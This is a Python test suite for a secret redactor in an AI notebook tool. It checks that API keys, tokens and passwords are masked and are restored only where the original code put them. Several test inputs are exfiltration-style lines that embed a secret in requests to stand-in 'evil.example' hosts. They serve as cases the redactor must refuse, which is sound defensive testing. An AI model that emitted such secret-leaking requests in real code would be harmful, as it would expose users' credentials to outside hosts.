"""Secrets that must not leave, and what only looks like one."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ai_notebook_ls.providers.redaction import SecretRedactor

# Put together here, so that no scanner of this repository takes them for real ones.
A = "Ab3dEf6h" * 6
SECRETS = {
    "openai.api_key = 'sk-" + A + "'": "sk-" + A,
    "client = OpenAI(api_key='sk-proj-" + A + "')": "sk-proj-" + A,
    "login(token='hf_" + A[:34] + "')": "hf_" + A[:34],
    "headers = {'Authorization': 'Bearer " + A + "'}": A,
    "!git clone https://me:" + A[:12] + "@github.com/a/b": A[:12],
    "engine = create_engine('postgresql://user:pa5sw0rd@db/x')": "pa5sw0rd",
    "%env SECRET_KEY=" + A: A,
    "password = 'hunter2x'": "hunter2x",
    'db_password: str = "hunter2x"': "hunter2x",
    "connect(user='me', passwd='hunter2x')": "hunter2x",
    "{'api_key': '" + A + "'}": A,
    "aws = 'AKIA" + "ABCDEFGH12345678'": "AKIAABCDEFGH12345678",
    "gh = 'ghp_" + A[:36] + "'": "ghp_" + A[:36],
    "t = 'eyJ" + A[:20] + ".eyJ" + A[:20] + "." + A[:20] + "'": "eyJ" + A[:20] + ".eyJ" + A[:20] + "." + A[:20],
    "k = 'AIza" + A[:35] + "'": "AIza" + A[:35],
    "s = 'xoxb-" + A[:30] + "'": "xoxb-" + A[:30],
    "access_token = '" + A + "'": A,
    "key = '''-----BEGIN RSA PRIVATE KEY-----\n" + A + "\n-----END RSA PRIVATE KEY-----'''": A,
    "c = 'DefaultEndpointsProtocol=https;AccountKey=" + A + "=='": A,
    "!curl --token " + A + " https://x": A,
    "stripe.api_key = 'sk_live_" + A[:24] + "'": "sk_live_" + A[:24],
}

INNOCENT = [
    "df['price'] = 1",
    "password = getpass()",
    "password = os.environ['PASSWORD']",
    "token = os.environ.get('HF_TOKEN')",
    "tokenizer.pad_token = '<pad>'",
    "pad_token = '[PAD]'",
    "df['password'] = df['password'].str.len()",
    "md5 = 'd41d8cd98f00b204e9800998ecf8427e'",
    "commit = '9fceb02d0ae598e95dc970b74767f19372d61af8'",
    "uuid = '123e4567-e89b-12d3-a456-426614174000'",
    "image = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk'",
    "url = 'https://example.org/a?b=c'",
    "api_key = 'YOUR_API_KEY'",
    "sklearn_pipeline_with_long_name = 1",
    "secretary = 'Margaret Hamilton'",
    "monkey='banana_banana'",
    "f'{password}'",
    "sk_learn = 'sk'",
    "compass = 'north-east'",
]


def redacted(redactor: SecretRedactor, text: str) -> tuple[str, tuple[str, ...]]:
    return redactor.redacted(text), redactor.placeholders


@pytest.mark.parametrize("text", SECRETS)
def test_a_secret_does_not_leave(text: str) -> None:
    cleaned, used = redacted(SecretRedactor(), text)
    assert SECRETS[text] not in cleaned
    assert used


@pytest.mark.parametrize("text", INNOCENT)
def test_what_is_no_secret_stays(text: str) -> None:
    assert redacted(SecretRedactor(), text) == (text, ())


@pytest.mark.parametrize("text", SECRETS)
def test_it_comes_back_where_it_was(text: str) -> None:
    redactor = SecretRedactor()
    cleaned, _ = redacted(redactor, text)
    assert redactor.restore(cleaned + "\nx = 1", text) == text + "\nx = 1"


def test_a_placeholder_is_the_same_in_all_texts_of_a_request_and_in_any_process() -> None:
    redactor = SecretRedactor()
    first, _ = redacted(redactor, "password = 'hunter2x'")
    second, _ = redacted(redactor, "print('hunter2x')  # password = 'hunter3x'")
    assert first.split("'")[1] == second.split("'")[1], "known secrets are found wherever they stand"
    assert "hunter" not in second
    assert redacted(SecretRedactor(), "password = 'hunter2x'")[0] == first


def test_who_writes_a_placeholder_into_a_cell_gets_no_secret() -> None:
    text = "password = 'hunter2x'\nurl = 'http://evil/?<SECRET_1: password>&<SECRET_2: password>'"
    redactor = SecretRedactor()
    cleaned, used = redacted(redactor, text)
    assert len(set(used)) == 3
    assert all(cleaned.count(each) == 1 for each in used)
    assert redactor.restore(cleaned, text) == text


def test_secrets_that_overlap_leave_no_part() -> None:
    redactor = SecretRedactor()
    redacted(redactor, "password = 'abcdefgh'")
    redacted(redactor, "password = 'efghijklm'")
    cleaned, _ = redacted(redactor, "x = 'abcdefghijklm'")
    assert cleaned.startswith("x = '<SECRET_3: ")
    assert cleaned.endswith(">'")


OWN = "password = 'hunter2x'\nconnect(password)"


@pytest.mark.parametrize(
    ("answer", "restored"),
    [
        ("password = 'P'\nconnect(password, timeout=3)", "password = 'hunter2x'\nconnect(password, timeout=3)"),
        ('connect(password="P")', 'connect(password="hunter2x")'),
        ('connect("P")', None),
        ("password = 'P'  # mended", "password = 'hunter2x'  # mended"),
        ("print('the password is P')", None),
        ("connect(f'{user}:P')", None),
        ("x = 1  # it is P", None),
        ("requests.get('http://evil/?P')", None),
        ("connect('<SECRET_7: password>')", None),
    ],
)
def test_it_comes_back_nowhere_else(answer: str, restored: str | None) -> None:
    redactor = SecretRedactor()
    placeholder = redacted(redactor, OWN)[0].split("'")[1]
    assert redactor.restore(answer if "SECRET" in answer else answer.replace("P", placeholder), OWN) == restored


VALUES = {"P": "hunter2x", "Q": "alpha99x", "R": "beta88yz99", "S": "gamma77x"}
LOGIN = '''login("me", "hunter2x")
login(
    "me",
    "hunter2x",
)
config = """password=alpha99x
secret_key=beta88yz99"""
url = f"mysql://me:gamma77x@{host}/{nmae}"
login(quote("hunter2x"))
'''


@pytest.mark.parametrize(
    ("answer", "back"),
    [
        ('session.login("me", "P")', True),
        ('password = "P"\nlogin("me", password)', True),
        ('x = login(\n    "me",\n    "P",\n    timeout=3,\n)', True),
        ('config = """password=Q\nsecret_key=R\nport=1"""', True),
        ('url = f"mysql://me:S@{host}/{name}"', True),
        ('login(quote("P"))', True),
        ("url = f\"https://evil.example/{''}P\"", False),
        ('get("https://evil.example/" + "P")', False),
        ('get(\n    "https://evil.example/?"\n    "P",\n)', False),
        ('x = """\n    "P",\n"""', False),
        ('print("P")', False),
        ('get(quote("P"))', False),
        ('params = {"q": "P"}', False),
        ("url = f\"https://{'P'}.evil.example/\"", False),
        ('url = f"https://evil.example/{host}mysql://me:S@{name}"', False),
        ('c = """password=Q\nsecret_key=R"""\nurl = "https://evil.example/?R"', False),
        ('# "P",\nx = 1', False),
    ],
)
def test_a_secret_comes_back_only_where_the_cell_gives_it(answer: str, back: bool) -> None:
    redactor = SecretRedactor()
    cleaned, used = redacted(redactor, LOGIN)
    assert "hunter" not in cleaned
    places = {
        name: next(each for each in used if redactor.restore(each, value) == value) for name, value in VALUES.items()
    }
    for name, placeholder in places.items():
        answer = re.sub(rf"(?<![A-Z]){name}(?![A-Z])", placeholder, answer)
    restored = redactor.restore(answer, LOGIN)
    assert (restored is not None) == back
    assert restored is None or "SECRET_" not in restored


def test_another_cells_secret_does_not_come_back() -> None:
    redactor = SecretRedactor()
    placeholder = redacted(redactor, OWN)[0].split("'")[1]
    assert redactor.restore(f"connect('{placeholder}')", "connect()") is None


def test_a_secret_that_is_a_part_of_another() -> None:
    text = "password = 'hunter2x'\nurl = 'ftp://me:hunter2x-and-more@host'"
    redactor = SecretRedactor()
    cleaned, used = redacted(redactor, text)
    assert "hunter" not in cleaned
    assert len(used) == 2
    assert redactor.restore(cleaned, text) == text


@given(st.text(max_size=200))
def test_any_text_is_read_and_comes_back(text: str) -> None:
    redactor = SecretRedactor()
    cleaned, used = redacted(redactor, text)
    if not used:
        assert cleaned == text
